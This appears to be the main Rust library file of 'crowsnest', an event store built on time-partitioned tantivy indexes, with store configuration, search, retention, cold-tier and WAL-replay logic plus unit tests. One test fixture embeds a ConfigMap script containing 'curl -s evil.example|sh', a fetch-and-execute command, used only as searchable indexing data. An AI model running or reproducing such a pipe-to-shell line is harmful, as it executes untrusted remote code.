//! Embedded event store of crowsnest: time-partitioned tantivy indexes, retention, search.
//!
//! # Overview
//!
//! ```text
//! <dir>/committed.json            position of the last full commit ({"wal_position": N})
//! <dir>/partitions/20240301T00/   one tantivy index per time partition (by `@timestamp`)
//! <dir>/partitions/20240302T00/
//! <dir>/other-format/20230101T00/ a partition of another on-disk format, set aside on open
//! <dir>/cold-work/                 cold-tier rewrites in progress (cleaned up on open)
//! ```
//!
//! * [`Store::add`] routes each event to the partition of its `@timestamp` and buffers it in
//!   that partition's writer; [`Store::commit`] makes everything searchable and durable and
//!   returns the highest WAL position now in the store. Each partition's tantivy commit payload
//!   records that position, and `add` skips events at or below it: replaying the WAL after a
//!   crash adds every lost event exactly once (see `writer.rs`).
//! * [`Store::search`] runs a [`crowsnest_query::Query`]: the filter becomes a tantivy query
//!   (`filter.rs`), only partitions overlapping `[start, end)` are searched, hits come back
//!   newest first with an exact `total`. `stats` and `timechart` run over *all* matching events
//!   with a group-by collector over fast-field columns (`aggregate.rs`), then the row pipes
//!   (`sort`, `head`, `fields`) of [`crowsnest_query::rows::apply`].
//! * [`Store::apply_retention`] drops whole partitions by age and by total size;
//!   [`Store::stats`] describes them.
//! * [`Store::compact_cold`] / [`Store::apply_cold`] rewrite old partitions into the cold tier
//!   ([`ColdConfig`], `cold.rs`): one segment, the docstore recompressed, every index kept, so
//!   every query answers the same; verified, recorded in the integrity chain, swapped atomically.
//!
//! Memory is bounded by [`StoreConfig::writer_memory_bytes`]: at most four writers are open
//! (least recently used ones are committed and closed), each with one indexing thread.
//!
//! # Schema and size
//!
//! See `schema.rs` for the fields and `partition.rs` for the on-disk format. In short: the event
//! is stored zstd-compressed (`_source`) with its raw input beside it (`_orig`); every leaf
//! except `message`, `event.original` and the unique paths is an exact keyword or number in
//! one JSON fast field (`fields`) used by filters and aggregations; ids and exact times go to
//! `_unique` (searchable, no columns); `message` is full text with positions (`_text`) and the
//! raw input's words are indexed without positions (`_raw`), but for the message a raw line
//! holds whole (its words are `_text`'s). An audit event's paths that have an ECS twin
//! ([`AUDIT_TWINS`]) are indexed once, through the twin, when every pair agrees. Term
//! dictionaries are tantivy's sstable ones, zstd-compressed.
//!
//! # Measured (2-core machine, release, `examples/ingest.rs`)
//!
//! 100k generated events (97 MB of raw NDJSON: Kubernetes audit, container logs, process
//! events): 55–61 µs of CPU per event, store 27.8 MB = 0.287 of raw, of which the docstore is
//! 11.7 MB (`examples/space.rs` breaks down the rest per field and column; before the message
//! was left out of `_raw` and audit twins were indexed once: 62–65 µs and 31.0 MB). BENCHMARKS.md has
//! the figures of the whole server at 1M and 10M events.
//!
//! # Example
//!
//! ```
//! use crowsnest_model::Event;
//! use crowsnest_query::{Filter, Query};
//! use crowsnest_store::{SearchRequest, Store, StoreConfig};
//!
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let dir = tempfile::tempdir()?;
//! let store = Store::open(dir.path(), StoreConfig::default())?;
//! let event: Event = serde_json::from_value(serde_json::json!({
//!     "@timestamp": "2024-03-01T12:00:00Z",
//!     "user": {"name": "alice"},
//!     "message": "Login failed"
//! }))?;
//! store.add(&[(1, event)])?;
//! assert_eq!(store.commit()?, Some(1));
//! let query = Query {
//!     filter: Filter::Term { field: Some("user.name".into()), value: "alice".into() },
//!     pipes: vec![],
//! };
//! let response = store.search(&SearchRequest { query, start: None, end: None, limit: 10, offset: 0 })?;
//! assert_eq!(response.total, 1);
//! assert_eq!(response.hits[0]["message"], "Login failed");
//! # Ok(())
//! # }
//! ```

mod aggregate;
mod cold;
mod error;
mod filter;
mod matcher;
mod partition;
mod retention;
mod schema;
mod search;
mod wildcard;
mod writer;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, RwLock};

use chrono::{DateTime, Utc};
use crowsnest_model::Event;
use serde::Serialize;

pub use cold::{ColdConfig, ColdPartition, ColdReport, COLD_WORK_DIR};
pub use error::StoreError;
pub use matcher::Matcher;
pub use retention::{PartitionStats, RetentionReport, StoreStats};
pub use schema::route::{
    is_free_text, is_identifier, HEX_RUN, ID_KEYS, LONG_TEXT_BYTES, TEXT_BYTES, TEXT_SPACES,
};
pub use schema::twins::AUDIT_TWINS;
pub use schema::{MAX_KEYWORD_BYTES, MAX_LEAVES, UNIQUE_PATHS};
pub use search::SearchControl;

use partition::{schema_fields, Partition};
use schema::SchemaFields;
use writer::WriteState;

/// Threads used to aggregate the segments of a partition in parallel.
const SEARCH_THREADS: usize = 2;

/// How the store partitions, retains and bounds memory.
#[derive(Debug, Clone, Serialize, serde::Deserialize)]
#[serde(default)]
pub struct StoreConfig {
    /// Width of one partition in hours (24 = daily, the default).
    pub partition_hours: u32,
    /// Drop partitions whose newest event is older than this many hours (None = keep).
    pub retention_max_age_hours: Option<u64>,
    /// Drop oldest partitions while the store is larger than this (None = unbounded).
    pub retention_max_bytes: Option<u64>,
    /// Memory budget of the index writers, in bytes, shared by all open partitions.
    pub writer_memory_bytes: usize,
    /// Largest number of groups a `stats` may produce before it is refused.
    pub max_groups: usize,
    /// zstd level of the stored events (1 to 19; default 3). Higher levels make a smaller
    /// store for more CPU per event: at 1M events of the benchmark corpus, level 7 made the
    /// stored events a fifth smaller than level 3 (the whole store 8 %) for 6 % less ingest
    /// throughput (BENCHMARKS.md). It applies to what is written from then on; events already
    /// stored stay as they were written, and readable.
    pub docstore_zstd_level: i32,
    /// Events whose `@timestamp` is more than this many hours before their `event.ingested`
    /// time (archives, replays, broken clocks) are not given partitions of their own time: they
    /// go to the partition of their ingest time, which records the span of `@timestamp`s it
    /// holds so searches by time still find them, and the ingest path flags them with
    /// `crowsnest.timestamp_out_of_range: past`. This bounds the partitions (and so the files
    /// and memory maps) one day of ingest can create, whatever the timestamps: one request of
    /// events on 11,000 different days used to make 11,000 partitions. Default 168 (7 days).
    pub window_past_hours: u64,
    /// The same bound for `@timestamp`s after `event.ingested` (flag
    /// `crowsnest.timestamp_out_of_range: future`). Default 24.
    pub window_future_hours: u64,
    /// The cold tier (`[store.cold]`): partitions older than `after_days` rewritten for size
    /// with the same answers to every query. Off by default.
    pub cold: ColdConfig,
    /// Paths that keep their fast columns (aggregatable by `stats`, `timechart`, `dc`) whatever
    /// their values look like, and count against no cap: exact paths or `prefix.*`; `"*"`
    /// keeps every path's columns (the behaviour before issue 23). Other paths lose their
    /// columns (still found by every query) for long free text, identifier-like values, and
    /// past [`StoreConfig::max_columns`] (see `schema/route.rs`). Default: none (built in, always:
    /// `schema::route::BUILT_IN_AGGREGATE_FIELDS`).
    pub aggregate_fields: Vec<String>,
    /// Most dynamic paths with fast columns per partition; the paths first seen after stay
    /// searchable but not aggregatable (an aggregation over one says so in its `warnings`).
    /// Default 400.
    pub max_columns: usize,
    /// Store an event whose raw input is a JSON object as what normalization added to it (the
    /// subtrees equal to the raw input's replaced by references, rebuilt when read; exact, see
    /// `schema/delta.rs`) instead of whole. Off by default: zstd already finds most of the
    /// repeats within a docstore block, so on the benchmark corpora it saved 2–5 % of the
    /// store for about 45 % more store CPU per event (BENCHMARKS.md, issue 23). Partitions
    /// written either way are read by every build that knows the delta format.
    pub docstore_delta: bool,
}

/// Which side of the ingest-time window an event's `@timestamp` lies on; see
/// [`StoreConfig::window_past_hours`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutOfRange {
    /// Older than the window.
    Past,
    /// Newer than the window.
    Future,
}

impl OutOfRange {
    /// The flag's value: `past` or `future`.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Past => "past",
            Self::Future => "future",
        }
    }
}

/// The field that flags events stored by their ingest time ([`OutOfRange`]).
pub const OUT_OF_RANGE_FIELD: &str = "crowsnest.timestamp_out_of_range";

impl StoreConfig {
    /// Whether an event stamped `ts` and ingested at `ingested` lies outside the window, and
    /// on which side. The store routes such events by `ingested`.
    pub fn out_of_range(&self, ts: DateTime<Utc>, ingested: DateTime<Utc>) -> Option<OutOfRange> {
        let hours = |h: u64| {
            i64::try_from(h)
                .ok()
                .and_then(chrono::TimeDelta::try_hours)
                .unwrap_or(chrono::TimeDelta::MAX)
        };
        let past = ingested.checked_sub_signed(hours(self.window_past_hours));
        let future = ingested.checked_add_signed(hours(self.window_future_hours));
        if past.is_some_and(|p| ts < p) {
            Some(OutOfRange::Past)
        } else if future.is_some_and(|f| ts > f) {
            Some(OutOfRange::Future)
        } else {
            None
        }
    }
}

impl Default for StoreConfig {
    fn default() -> Self {
        Self {
            partition_hours: 24,
            retention_max_age_hours: None,
            retention_max_bytes: None,
            writer_memory_bytes: 256 * 1024 * 1024,
            max_groups: 100_000,
            docstore_zstd_level: partition::DOCSTORE_ZSTD_LEVEL,
            window_past_hours: 7 * 24,
            window_future_hours: 24,
            cold: ColdConfig::default(),
            aggregate_fields: Vec::new(),
            max_columns: 400,
            docstore_delta: false,
        }
    }
}

/// A search to run.
#[derive(Debug, Clone)]
pub struct SearchRequest {
    /// The parsed query.
    pub query: crowsnest_query::Query,
    /// Inclusive start (None = unbounded).
    pub start: Option<DateTime<Utc>>,
    /// Exclusive end (None = unbounded).
    pub end: Option<DateTime<Utc>>,
    /// Most hits (or rows) to return.
    pub limit: usize,
    /// Hits (or rows) to skip.
    pub offset: usize,
}

/// Result of a search.
#[derive(Debug, Clone, Serialize)]
pub struct SearchResponse {
    /// Exact number of matching events.
    pub total: u64,
    /// Matching events, newest first (empty for tabular queries).
    pub hits: Vec<serde_json::Value>,
    /// Column names, for queries with pipes.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub columns: Option<Vec<String>>,
    /// Rows, for queries with pipes.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub rows: Option<Vec<Vec<serde_json::Value>>>,
    /// What the answer leaves out and why: an aggregation over a field some of whose values
    /// have no fast column (identifiers, long text, paths past the per-partition cap) names
    /// the field and how many matching events hold such values.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub warnings: Vec<String>,
    /// Time taken, in milliseconds.
    pub took_ms: u64,
}

/// The store. `Send + Sync`: share it in an `Arc`; searches run concurrently with `add` and
/// `commit` (which serialize among themselves).
pub struct Store {
    root: PathBuf,
    partitions_dir: PathBuf,
    config: StoreConfig,
    schema: SchemaFields,
    /// Open partitions by start time.
    partitions: RwLock<BTreeMap<DateTime<Utc>, Arc<Partition>>>,
    write: Mutex<WriteState>,
    /// Threads that collect the segments of a partition in parallel (aggregations).
    executor: tantivy::Executor,
    /// The integrity chain partitions are sealed in ([`Store::set_chain`]).
    chain: std::sync::OnceLock<Arc<crowsnest_integrity::Chain>>,
}

impl std::fmt::Debug for Store {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Store")
            .field("root", &self.root)
            .field("config", &self.config)
            .finish_non_exhaustive()
    }
}

/// Where [`Store::open`] moves partitions of another on-disk format, below the store's directory.
pub const SET_ASIDE_DIR: &str = "other-format";

/// Moves a partition this build cannot read out of `partitions/` into [`SET_ASIDE_DIR`], so the
/// store starts, new events of its hours go to a new partition, and retention leaves the old
/// one alone. It is kept, not deleted: the build that wrote it still reads it.
fn set_aside(root: &Path, partition: &Path, error: &StoreError) -> Result<(), StoreError> {
    let aside = root.join(SET_ASIDE_DIR);
    std::fs::create_dir_all(&aside)
        .map_err(|e| StoreError::io(format!("cannot create `{}`", aside.display()), e))?;
    let name = partition.file_name().unwrap_or_default();
    let mut target = aside.join(name);
    let mut n = 1;
    while target.exists() {
        n += 1;
        target = aside.join(format!("{}.{n}", name.to_string_lossy()));
    }
    std::fs::rename(partition, &target).map_err(|e| {
        StoreError::io(
            format!(
                "cannot move `{}` to `{}`",
                partition.display(),
                target.display()
            ),
            e,
        )
    })?;
    tracing::error!(
        %error,
        moved_to = %target.display(),
        "partition set aside: its events are not searchable with this build (the build that wrote it still reads it)"
    );
    Ok(())
}

impl Store {
    /// Opens (or creates) a store in `dir`. Partitions written in another on-disk format (by an
    /// older build) are moved to `dir/`[`SET_ASIDE_DIR`] with an error in the log.
    pub fn open(dir: &Path, config: StoreConfig) -> Result<Self, StoreError> {
        if !partition::DOCSTORE_ZSTD_LEVELS.contains(&config.docstore_zstd_level) {
            return Err(StoreError::Config(format!(
                "docstore_zstd_level is {}; zstd levels {} to {} are accepted",
                config.docstore_zstd_level,
                partition::DOCSTORE_ZSTD_LEVELS.start(),
                partition::DOCSTORE_ZSTD_LEVELS.end()
            )));
        }
        config.cold.validate()?;
        let partitions_dir = dir.join("partitions");
        std::fs::create_dir_all(&partitions_dir).map_err(|e| {
            StoreError::io(format!("cannot create `{}`", partitions_dir.display()), e)
        })?;
        cold::recover(dir, &partitions_dir)?;
        let mut partitions = BTreeMap::new();
        let entries = std::fs::read_dir(&partitions_dir).map_err(|e| {
            StoreError::io(format!("cannot list `{}`", partitions_dir.display()), e)
        })?;
        for entry in entries {
            let entry = entry.map_err(|e| {
                StoreError::io(format!("cannot list `{}`", partitions_dir.display()), e)
            })?;
            if !entry.path().is_dir() {
                continue;
            }
            match Partition::open(
                &entry.path(),
                config.partition_hours,
                config.docstore_zstd_level,
            ) {
                Ok(partition) => {
                    partitions.insert(partition.start, Arc::new(partition));
                }
                Err(error @ StoreError::Format { .. }) => set_aside(dir, &entry.path(), &error)?,
                Err(error) => return Err(error),
            }
        }
        let durable = writer::read_committed(dir)?;
        let executor = tantivy::Executor::multi_thread(SEARCH_THREADS, "crowsnest-search-")?;
        tracing::info!(dir = %dir.display(), partitions = partitions.len(), committed = ?durable, "opened store");
        Ok(Self {
            root: dir.to_path_buf(),
            partitions_dir,
            config,
            schema: schema_fields(),
            partitions: RwLock::new(partitions),
            write: Mutex::new(WriteState {
                writers: Vec::new(),
                max_added: durable,
                durable,
            }),
            executor,
            chain: std::sync::OnceLock::new(),
        })
    }

    /// Seals partitions in `chain` when their writer closes (their files stop changing),
    /// records reopenings (late events) and retention's deletions. Set once, before events
    /// are added; a second call is ignored. The WAL of the pipeline uses the same chain.
    pub fn set_chain(&self, chain: Arc<crowsnest_integrity::Chain>) {
        let _ = self.chain.set(chain);
    }

    /// The integrity chain, when one is set.
    pub fn chain(&self) -> Option<&Arc<crowsnest_integrity::Chain>> {
        self.chain.get()
    }

    /// Buffers events with their WAL positions for indexing; events whose position is already
    /// committed in their partition are skipped (replay after a crash). Returns how many were
    /// added. Every event must have a parseable `@timestamp`
    /// ([`StoreError::MissingTimestamp`] otherwise, and nothing of the batch is added).
    pub fn add(&self, batch: &[(u64, Event)]) -> Result<usize, StoreError> {
        self.add_batch(batch, None)
    }

    /// Like [`Store::add`], with each event's WAL record ([`crowsnest_model::record`], one per
    /// event, in order): a record's JSON is stored as it is, which saves serializing every
    /// event a second time.
    pub fn add_records(
        &self,
        batch: &[(u64, Event)],
        records: &[Vec<u8>],
    ) -> Result<usize, StoreError> {
        self.add_batch(batch, Some(records))
    }

    /// Commits all buffered events (searchable and durable). Returns the highest WAL position
    /// now durable in the store, if any.
    ///
    /// After a failed `commit` (or `add`), call [`Store::abort`] before adding again: what was
    /// buffered may be partly lost, so it must be added again from the WAL, starting after
    /// [`Store::committed_position`].
    pub fn commit(&self) -> Result<Option<u64>, StoreError> {
        self.commit_all()
    }

    /// Discards everything added since the last commit (every open writer is rolled back and
    /// closed), so that a later commit can never record a WAL position as durable for events
    /// that a failed `add` or `commit` lost (a full disk). Events must then be added again from
    /// the position after [`Store::committed_position`]; partitions that did commit skip
    /// theirs. Returns that committed position.
    pub fn abort(&self) -> Option<u64> {
        self.abort_all()
    }

    /// The WAL position of the last [`Store::commit`] (persisted across restarts): replaying
    /// the WAL from the next position is enough; replaying more is harmless.
    pub fn committed_position(&self) -> Option<u64> {
        self.lock_write().durable
    }

    /// The settings the store was opened with.
    pub fn config(&self) -> &StoreConfig {
        &self.config
    }

    /// The store's directory.
    pub fn dir(&self) -> &Path {
        &self.root
    }

    /// Runs a search.
    pub fn search(&self, request: &SearchRequest) -> Result<SearchResponse, StoreError> {
        search::run(self, request, &SearchControl::default())
    }

    /// Runs a search under a time budget and a cancellation flag ([`SearchControl`]): it
    /// stops with [`StoreError::Timeout`] or [`StoreError::Cancelled`].
    pub fn search_with(
        &self,
        request: &SearchRequest,
        control: &SearchControl,
    ) -> Result<SearchResponse, StoreError> {
        search::run(self, request, control)
    }

    /// Drops partitions past the retention limits of the config: every partition whose end is
    /// older than `now - retention_max_age_hours`, then the oldest partitions while the store is
    /// larger than `retention_max_bytes` (never the newest one).
    pub fn apply_retention(&self, now: DateTime<Utc>) -> Result<RetentionReport, StoreError> {
        retention::apply(self, now)
    }

    /// The cold tier now: rewrites every partition whose end is at or before `cutoff` (and
    /// whose events are all older) that is not cold yet, for size, keeping every answer the
    /// same (see `cold.rs`). Each rewrite is verified and swapped atomically; a partition
    /// written to meanwhile is left hot. Slow (a full merge per partition): run it in the
    /// background.
    pub fn compact_cold(&self, cutoff: DateTime<Utc>) -> Result<ColdReport, StoreError> {
        cold::compact(self, cutoff)
    }

    /// [`Store::compact_cold`] for the partitions older than `cold.after_days` at `now`; does
    /// nothing when the cold tier is off.
    pub fn apply_cold(&self, now: DateTime<Utc>) -> Result<ColdReport, StoreError> {
        match self.config.cold.after_days {
            Some(days) => cold::compact(self, cold::cutoff(now, days)),
            None => Ok(ColdReport::default()),
        }
    }

    /// Partitions with their bounds, event counts and sizes.
    pub fn stats(&self) -> StoreStats {
        retention::stats(self)
    }

    /// Commits what is buffered, then closes every writer, waiting for running merges.
    /// Returns the committed position. (Dropping the store without `close` also waits for
    /// merges but discards uncommitted events, which a WAL replay restores.)
    pub fn close(self) -> Result<Option<u64>, StoreError> {
        self.close_all()
    }

    /// Like [`Store::close`] through a shared reference: commits, then closes every writer
    /// (each partition is then sealed in the integrity chain, when one is set). The store
    /// stays usable: the next `add` opens writers again.
    pub fn close_writers(&self) -> Result<Option<u64>, StoreError> {
        self.close_all()
    }

    pub(crate) fn read_partitions(
        &self,
    ) -> std::sync::RwLockReadGuard<'_, BTreeMap<DateTime<Utc>, Arc<Partition>>> {
        self.partitions
            .read()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    pub(crate) fn write_partitions(
        &self,
    ) -> std::sync::RwLockWriteGuard<'_, BTreeMap<DateTime<Utc>, Arc<Partition>>> {
        self.partitions
            .write()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }
}

impl Drop for Store {
    fn drop(&mut self) {
        let writers = std::mem::take(&mut self.lock_write().writers);
        for open in writers {
            if let Err(error) = open.writer.wait_merging_threads() {
                tracing::warn!(%error, "index writer did not close cleanly");
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn assert_send_sync<T: Send + Sync>() {}

    #[test]
    fn store_is_send_and_sync() {
        assert_send_sync::<Store>();
    }

    fn count(store: &Store, text: &str) -> u64 {
        let query = crowsnest_query::parse(text).expect("query");
        store
            .search(&SearchRequest {
                query,
                start: None,
                end: None,
                limit: 10,
                offset: 0,
            })
            .expect("search")
            .total
    }

    fn event_at(ts: &str, id: &str) -> Event {
        serde_json::from_value(serde_json::json!({"@timestamp": ts, "event": {"id": id}}))
            .expect("event")
    }

    /// An event added with its WAL record is stored and found exactly as one the store
    /// serializes itself, raw input included; a record that does not frame is refused, not
    /// stored as something else.
    #[test]
    fn events_added_with_their_wal_records_read_back_the_same() {
        let dir = tempfile::tempdir().expect("tempdir");
        let store = Store::open(dir.path(), StoreConfig::default()).expect("open");
        let make = |id: &str| -> Event {
            serde_json::from_value(serde_json::json!({
                "@timestamp": "2024-03-01T10:00:00Z",
                "event": {"id": id, "original": "{\"verb\":\"get\",\"note\":\"say \\\"hi\\\"\"}"},
                "user": {"name": "alice"},
                "message": "alice got a secret",
            }))
            .expect("event")
        };
        let with_record = make("with-record");
        let record = crowsnest_model::record::to_vec(&with_record).expect("record");
        store
            .add_records(&[(1, with_record.clone())], &[record])
            .expect("add with record");
        let without = make("without");
        store.add(&[(2, without.clone())]).expect("add");
        assert!(store
            .add_records(&[(3, make("bad"))], &[vec![0x02, 200, 0, 0, 0]])
            .is_err());
        assert!(store.add_records(&[(3, make("bad"))], &[]).is_err());
        store.commit().expect("commit");
        for (id, event) in [("with-record", &with_record), ("without", &without)] {
            let hits = store
                .search(&SearchRequest {
                    query: crowsnest_query::parse(&format!("event.id:{id}")).expect("query"),
                    start: None,
                    end: None,
                    limit: 10,
                    offset: 0,
                })
                .expect("search")
                .hits;
            assert_eq!(hits.len(), 1, "{id}");
            assert_eq!(hits[0], event.clone().into_value(), "{id}");
        }
        assert_eq!(count(&store, "hi AND get AND user.name:alice"), 2);
        assert_eq!(count(&store, "event.id:bad"), 0);
    }

    /// The raw input's words are its values' words, JSON escapes decoded: a word after `\n` in
    /// a ConfigMap script is found; a key name alone is not a word of the event.
    #[test]
    fn raw_words_are_json_values_with_escapes_decoded() {
        let dir = tempfile::tempdir().expect("tempdir");
        let store = Store::open(dir.path(), StoreConfig::default()).expect("open");
        let raw = r##"{"kind":"ConfigMap","data":{"run.sh":"#!/bin/sh\ncurl -s evil.example|sh\u0020wget"}}"##;
        let event: Event = serde_json::from_value(serde_json::json!({
            "@timestamp": "2024-03-01T10:00:00Z",
            "event": {"original": raw},
        }))
        .expect("event");
        store.add(&[(1, event)]).expect("add");
        store.commit().expect("commit");
        for (query, expected) in [
            ("curl", 1),
            ("wget", 1),
            ("configmap", 1),
            ("\"curl evil\"", 1),
            ("ncurl", 0),
            ("u0020wget", 0),
            ("kind", 0),
            ("event.original:curl", 1),
        ] {
            assert_eq!(count(&store, query), expected, "{query}");
        }
        store.close().expect("close");
    }

    /// A committed partition of another on-disk format (here: a payload without `format`, as
    /// format 1 wrote it) is moved aside, kept whole, and the store starts and takes new
    /// events of the same hour in a fresh partition.
    #[test]
    fn partitions_of_another_format_are_set_aside_not_opened() {
        let dir = tempfile::tempdir().expect("tempdir");
        let store = Store::open(dir.path(), StoreConfig::default()).expect("open");
        store
            .add(&[(1, event_at("2024-03-01T10:00:00Z", "old-1"))])
            .expect("add");
        store.commit().expect("commit");
        store.close().expect("close");
        let old = dir.path().join("partitions/20240301T00");
        let meta_path = old.join("meta.json");
        let mut meta: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&meta_path).expect("meta")).expect("json");
        let mut payload: serde_json::Value =
            serde_json::from_str(meta["payload"].as_str().expect("payload")).expect("payload");
        assert_eq!(payload["format"], partition::FORMAT);
        payload.as_object_mut().expect("object").remove("format");
        meta["payload"] = payload.to_string().into();
        std::fs::write(&meta_path, meta.to_string()).expect("write meta");

        let store = Store::open(dir.path(), StoreConfig::default()).expect("reopen");
        assert!(!old.exists());
        let aside = dir.path().join(SET_ASIDE_DIR).join("20240301T00");
        assert!(aside.join("meta.json").exists(), "kept whole");
        assert_eq!(count(&store, "*"), 0);
        assert_eq!(store.stats().set_aside, ["20240301T00"]);
        store
            .add(&[(2, event_at("2024-03-01T11:00:00Z", "new-1"))])
            .expect("add");
        store.commit().expect("commit");
        assert_eq!(count(&store, "event.id:new-1"), 1);
        store.close().expect("close");
        // Set aside again (a second old copy of the same hour) does not overwrite the first.
        std::fs::write(&meta_path, meta.to_string()).expect("write meta");
        drop(Store::open(dir.path(), StoreConfig::default()).expect("reopen"));
        assert!(dir
            .path()
            .join(SET_ASIDE_DIR)
            .join("20240301T00.2")
            .exists());
        assert!(aside.exists());
        let store = Store::open(dir.path(), StoreConfig::default()).expect("reopen");
        assert_eq!(store.stats().set_aside, ["20240301T00", "20240301T00.2"]);
    }

    /// A partition that never committed but was created by a build with another schema (here:
    /// without `_unique`) is empty, so it is recreated with the current schema and takes events.
    #[test]
    fn empty_partitions_of_another_schema_are_recreated() {
        let dir = tempfile::tempdir().expect("tempdir");
        let (schema, _) = schema::build_schema();
        let mut older = tantivy::schema::Schema::builder();
        for (_, entry) in schema.fields() {
            if entry.name() != schema::UNIQUE {
                older.add_field(entry.clone());
            }
        }
        let old_dir = dir.path().join("partitions/20240301T00");
        std::fs::create_dir_all(&old_dir).expect("mkdir");
        tantivy::Index::builder()
            .schema(older.build())
            .create_in_dir(&old_dir)
            .expect("older index");
        let store = Store::open(dir.path(), StoreConfig::default()).expect("open");
        store
            .add(&[(1, event_at("2024-03-01T10:00:00Z", "e-1"))])
            .expect("add");
        store.commit().expect("commit");
        assert_eq!(count(&store, "event.id:e-1"), 1);
        assert_eq!(count(&store, "_exists_:event.id"), 1);
        store.close().expect("close");
    }

    #[test]
    fn config_defaults_match_the_contract() {
        let config = StoreConfig::default();
        assert_eq!(config.partition_hours, 24);
        assert_eq!(config.retention_max_age_hours, None);
        assert_eq!(config.writer_memory_bytes, 256 * 1024 * 1024);
        assert_eq!(config.max_groups, 100_000);
    }
}
